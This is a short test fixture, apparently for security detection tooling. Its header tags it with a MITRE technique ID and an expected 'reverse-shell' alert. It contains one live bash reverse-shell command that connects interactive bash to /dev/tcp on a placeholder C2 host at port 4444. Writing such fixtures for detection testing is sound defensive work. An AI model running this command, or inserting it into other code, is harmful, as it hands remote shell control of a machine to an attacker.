# category: suspicious-network
# technique: T1059.004
# art: yes
# expect: reverse-shell
# image: debian
# net: yes
# desc: the classic bash reverse shell: bash -i with its stdio on /dev/tcp to the C2
timeout 10 bash -c "bash -i >& /dev/tcp/$C2/4444 0>&1" || true
